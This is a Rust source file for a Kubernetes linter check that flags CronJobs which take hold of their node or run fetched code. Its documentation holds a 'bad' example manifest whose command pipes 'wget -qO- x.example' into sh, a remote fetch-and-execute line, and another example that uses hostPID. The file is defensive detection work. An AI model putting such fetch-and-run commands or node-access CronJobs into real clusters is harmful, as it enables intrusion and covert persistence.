//! cronjob-suspicious

use super::shell_entrypoint;
use crate::container::{PodTemplate, WorkloadObject};
use crate::kind::Kind;
use crate::offence::{Offence, Verdict};

check! {
    /// A `CronJob` makes Pods that take hold of their node (a privileged container, a namespace or
    /// path of the node) or that fetch code and run it.
    ///
    /// ## Why it matters
    ///
    /// A `CronJob` brings its Pods back for as long as it is there, at an hour of its own choosing.
    /// Intruders leave one behind to return, and between its runs there is no Pod to be seen.
    ///
    /// ## How to mend it
    ///
    /// Find out who made it. What has to reach the node, such as a backup, belongs in a namespace of
    /// its own with an exception that says why; what it runs belongs in its image.
    ///
    /// ```yaml,bad
    /// apiVersion: batch/v1
    /// kind: CronJob
    /// metadata: {name: cleanup}
    /// spec:
    ///   schedule: "0 3 * * *"
    ///   jobTemplate:
    ///     spec:
    ///       template:
    ///         spec:
    ///           restartPolicy: Never
    ///           containers:
    ///           - {name: cleanup, image: cleanup, command: [sh, -c, "wget -qO- x.example | sh"]}
    /// ```
    ///
    /// ```yaml,bad
    /// apiVersion: batch/v1
    /// kind: CronJob
    /// metadata: {name: backup}
    /// spec:
    ///   schedule: "0 3 * * *"
    ///   jobTemplate:
    ///     spec:
    ///       template:
    ///         spec:
    ///           hostPID: true
    ///           restartPolicy: Never
    ///           containers: [{name: backup, image: backup}]
    /// ```
    ///
    /// ```yaml,good
    /// apiVersion: batch/v1
    /// kind: CronJob
    /// metadata: {name: report}
    /// spec:
    ///   schedule: "0 3 * * *"
    ///   jobTemplate:
    ///     spec:
    ///       template:
    ///         spec:
    ///           restartPolicy: Never
    ///           containers:
    ///           - {name: report, image: report, command: [curl, -X, POST, "http://web/report"]}
    /// ```
    id: "cronjob-suspicious",
    title: "CronJob takes hold of its node or runs fetched code",
    remediation: "Find out who made the CronJob; take the access to the node and the fetched code away.",
    severity: Medium,
    threats: [1, 7],
    cis: [],
    nsa: [],
    pss: [],
    mitre: ["T1053.007", "MS-TA9014"],
    owasp: ["K01"],
    peers: ["kubescape/C-0026"],
    joins: [],
    evaluate: WorkloadObject(cronjob_suspicious),
}

fn cronjob_suspicious(object: &WorkloadObject<'_>) -> Verdict {
    if object.kind != Kind::CronJob {
        return Verdict::NotApplicable;
    }
    let spec = object.pod;
    let pod =
        PodTemplate { metadata: object.metadata, spec, live: false, settings: object.settings };
    let namespaces = [
        (spec.host_network, "hostNetwork"),
        (spec.host_pid, "hostPID"),
        (spec.host_ipc, "hostIPC"),
    ];
    let shared = namespaces
        .into_iter()
        .filter(|(shared, _)| *shared == Some(true))
        .map(|(_, path)| Offence::at(path));
    let host_path = spec.volumes.iter().any(|volume| volume.host_path.is_some());
    let host_path = host_path.then(|| Offence::at("volumes").detail("a path of the node"));
    let privileged = pod.containers().filter_map(|container| {
        let privileged = container.security().privileged == Some(true);
        privileged.then(|| container.offence("securityContext.privileged"))
    });
    let fetched = shell_entrypoint::offences(&pod);
    Verdict::from_offences(shared.chain(host_path).chain(privileged).chain(fetched))
}
